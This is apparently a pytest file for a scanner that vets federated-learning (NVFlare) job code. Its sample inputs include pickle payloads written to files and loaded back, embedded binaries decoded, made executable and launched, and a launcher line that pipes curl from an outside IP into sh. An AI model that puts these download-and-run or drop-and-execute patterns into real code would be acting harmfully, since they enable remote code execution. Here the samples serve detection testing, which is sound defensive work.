"""Session 49 (lead): a payload written to a file and loaded back is the payload.

Session 48 read a pickle from a file opened at a path known only at run time as a local file (escalate), as
`joblib.load(path)` of the same path. An embedded pickle, base64-decoded, written to that path and unpickled from it
then escalated too, where it rejected before (corpus/malicious/lead48_decoded_pickle_roundtrip.py): a read now
carries the kind of the bytes the module writes to a file that may be the one read (detectors/paths.py
`_Origin.read_back`)."""

from __future__ import annotations

import pytest

from analyzer.model import Decision
import redteam_kit as kit

K = 'K = "gASVAAAAAAAAAAB9lC4="\n'


@pytest.mark.parametrize("source", [
    # the path an argument, written by a file object and unpickled from one opened again
    'import base64, pickle, sys\n' + K + 'with open(sys.argv[1], "wb") as f:\n    f.write(base64.b64decode(K))\n'
    'state = pickle.load(open(sys.argv[1], "rb"))\n',
    # a helper writes with Path.write_bytes, another loads the same constant path with joblib
    'import base64, joblib\nfrom pathlib import Path\n' + K + 'def stage(p):\n    Path(p).write_bytes(base64.b64decode(K))\n'
    'def load(p):\n    return joblib.load(p)\nstage("warm.bin")\ns = load("warm.bin")\n',
    # decompressed, written through a handle bound by assignment, torch.load without weights_only
    'import base64, zlib, torch\n' + K + 'def warm(path):\n    data = zlib.decompress(base64.b64decode(K))\n'
    '    fh = open(path, mode="wb")\n    fh.write(data)\n    fh.close()\n    return torch.load(path, weights_only=False)\n',
    # a download into the file, then unpickled from it
    'import pickle, urllib.request\ndef fetch(url, path):\n    urllib.request.urlretrieve(url, path)\n'
    '    with open(path, "rb") as f:\n        return pickle.load(f)\n',
])
def test_bytes_from_elsewhere_written_to_a_file_and_loaded_back_reject(source):
    report = kit.scan_text(source)
    assert kit.holds(report, "deserialization.untrusted-pickle"), kit.findings(report)
    assert report.decision is Decision.REJECT, kit.findings(report)


def test_the_corpus_round_trip_rejects():
    report = kit.scan_sample("malicious/lead48_decoded_pickle_roundtrip.py")
    assert report.decision is Decision.REJECT, kit.findings(report)


@pytest.mark.parametrize("source", [
    # the module writes its own metrics, not a payload, and loads a results pickle: a capability
    'import json, pickle\ndef save(path, metrics):\n    with open(path, "w") as f:\n        f.write(json.dumps(metrics))\n'
    'def load(path):\n    with open(path, "rb") as f:\n        return pickle.load(f)\n',
    # the payload goes to one named file, the pickle read is another named file
    'import base64, pickle\n' + K + 'open("a.bin", "wb").write(base64.b64decode(K))\n'
    's = pickle.load(open("results.pkl", "rb"))\n',
])
def test_a_local_pickle_not_written_from_a_payload_stays_a_capability(source):
    report = kit.scan_text(source)
    assert kit.holds(report, "deserialization.local-pickle"), kit.findings(report)
    assert not kit.holds(report, "deserialization.untrusted-pickle"), kit.findings(report)
    assert report.decision is Decision.ESCALATE, kit.findings(report)


# ---- a program written out of the job's literals and made executable (malware49's open item) ------------------------

@pytest.mark.parametrize("source", [
    'import base64, os, subprocess\nBIN = "f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA"\ndef install(dest):\n'
    '    with open(dest, "wb") as f:\n        f.write(base64.b64decode(BIN))\n    os.chmod(dest, 0o755)\n'
    '    subprocess.Popen([dest])\n',
    'import binascii, stat, zlib\nfrom pathlib import Path\nHELPER = Path("/tmp/.cache-helper")\n'
    'HELPER.write_bytes(zlib.decompress(binascii.unhexlify("789c4b4a2c0600")))\nHELPER.chmod(HELPER.stat().st_mode | stat.S_IEXEC)\n',
])
def test_a_program_decoded_from_the_jobs_literals_and_made_executable_rejects(source):
    report = kit.scan_text(source)
    assert kit.holds(report, "remote-code.embedded-exec"), kit.findings(report)
    assert report.decision is Decision.REJECT, kit.findings(report)


def test_a_script_the_job_writes_as_text_and_makes_executable_stays_a_capability():
    report = kit.scan_text('import os\nwith open("run.sh", "w") as f:\n    f.write("#!/bin/sh\\necho ok\\n")\n'
                           'os.chmod("run.sh", 0o755)\n')
    assert kit.holds(report, "subprocess.make-executable"), kit.findings(report)
    assert not kit.holds(report, "remote-code.embedded-exec"), kit.findings(report)


# ---- a file found by a listing is not a settings file the code names (rawfolders49's open hole) -----------------------

README = "# Notes\n\nChangelog = \"/mnt/fl-share/uploads/w.pt\"\n"


@pytest.mark.parametrize("find", [
    "next(Path(__file__).parent.glob('*.md'))",
    "sorted(Path(__file__).parent.rglob('*.md'))[0]",
    "[p for p in Path(__file__).parent.iterdir() if p.suffix == '.md'][0]",
])
def test_weights_saved_where_a_listed_document_says_do_not_accept(tmp_path, find):
    client = ("import torch\nfrom pathlib import Path\nimport nvflare.client as flare\nflare.init()\n"
              "net = torch.nn.Linear(2, 2)\nwhile flare.is_running():\n    m = flare.receive()\n"
              f"    text = {find}.read_text()\n"
              "    dest = text.split('Changelog = \"')[1].split('\"')[0]\n"
              "    torch.save(net.state_dict(), dest)\n    flare.send(m)\n")
    report = kit.scan_files(tmp_path, {"client.py": client, "README.md": README})
    assert report.decision is not Decision.ACCEPT, kit.findings(report)


def test_a_settings_file_the_code_names_beside_its_module_is_still_the_jobs_own(tmp_path):
    client = ("import json, torch\nfrom pathlib import Path\nimport nvflare.client as flare\nflare.init()\n"
              "net = torch.nn.Linear(2, 2)\nsettings = json.loads((Path(__file__).parent / 'settings.json').read_text())\n"
              "while flare.is_running():\n    m = flare.receive()\n    torch.save(net.state_dict(), settings['out'])\n"
              "    flare.send(m)\n")
    report = kit.scan_files(tmp_path, {"client.py": client, "settings.json": '{"out": "model.pt"}'})
    assert report.decision is Decision.ACCEPT, kit.findings(report)


# ---- a module a string names counts as run only when the whole literal is its name (redteam49c's widening) ------------

def test_a_word_of_a_message_does_not_make_a_launcher_run(tmp_path):
    # NVFlare's hello-numpy-cross-val: client.py says "... fix job order." and job.py (the launcher) was weighed
    launcher = ('from nvflare.app_common.np.recipes.fedavg import NumpyFedAvgRecipe\nfrom nvflare.recipe import SimEnv\n'
                'recipe = NumpyFedAvgRecipe(name="hello", min_clients=2, num_rounds=3, train_script="client.py")\n'
                'recipe.execute(SimEnv(num_clients=2))\n')
    client = ('import numpy as np\nimport nvflare.client as flare\nflare.init()\nwhile flare.is_running():\n'
              '    model = flare.receive()\n    if model is None:\n        raise RuntimeError("run training first or fix job order.")\n'
              '    flare.send(flare.FLModel(params={k: np.asarray(v) for k, v in model.params.items()}))\n')
    report = kit.scan_files(tmp_path, {"job.py": launcher, "client.py": client})
    assert kit.holds(report, "unvouched.launcher-not-run"), kit.findings(report)
    assert report.decision is Decision.ACCEPT, kit.findings(report)


@pytest.mark.parametrize("literal", ['"job"', '"module://job"', '"job:main"'])
def test_a_literal_that_is_the_modules_name_still_makes_it_run(tmp_path, literal):
    launcher = ('import os\nfrom nvflare.app_common.np.recipes.fedavg import NumpyFedAvgRecipe\n'
                'recipe = NumpyFedAvgRecipe(name="hello", min_clients=2, num_rounds=3, train_script="client.py")\n'
                'os.system("curl -s http://203.0.113.9/x | sh")\n')
    client = ('import importlib\nimport nvflare.client as flare\nflare.init()\n'
              f'BACKEND = {literal}\nwhile flare.is_running():\n    flare.send(flare.receive())\n')
    report = kit.scan_files(tmp_path, {"job.py": launcher, "client.py": client})
    assert not kit.holds(report, "unvouched.launcher-not-run"), kit.findings(report)
    assert report.decision is Decision.REJECT, kit.findings(report)


# ---- the round trip split across the job's modules ----------------------------------------------------------------

@pytest.mark.parametrize("stage", [
    'import base64\nK = "gASVAAAAAAAAAAB9lC4="\ndef stage(path):\n    with open(path, "wb") as f:\n'
    '        f.write(base64.b64decode(K))\n',
    'import urllib.request\ndef stage(path):\n    urllib.request.urlretrieve("https://x.example/w.pkl", path)\n',
])
def test_a_payload_written_by_one_module_and_unpickled_by_another_rejects(tmp_path, stage):
    client = ('import pickle, sys\nimport nvflare.client as flare\nfrom warm import stage\nstage(sys.argv[1])\n'
              'with open(sys.argv[1], "rb") as f:\n    state = pickle.load(f)\nflare.init()\n'
              'while flare.is_running():\n    flare.send(flare.receive())\n')
    report = kit.scan_files(tmp_path, {"client.py": client, "warm.py": stage})
    assert kit.holds(report, "deserialization.untrusted-pickle"), kit.findings(report)
    assert report.decision is Decision.REJECT, kit.findings(report)


def test_another_modules_plain_writes_leave_a_local_pickle_a_capability(tmp_path):
    client = ('import pickle, sys\nfrom report import save\nsave(sys.argv[2], {"acc": 1.0})\n'
              'with open(sys.argv[1], "rb") as f:\n    state = pickle.load(f)\n')
    report_py = 'import json\ndef save(path, metrics):\n    with open(path, "w") as f:\n        f.write(json.dumps(metrics))\n'
    report = kit.scan_files(tmp_path, {"client.py": client, "report.py": report_py})
    assert kit.holds(report, "deserialization.local-pickle"), kit.findings(report)
    assert report.decision is Decision.ESCALATE, kit.findings(report)
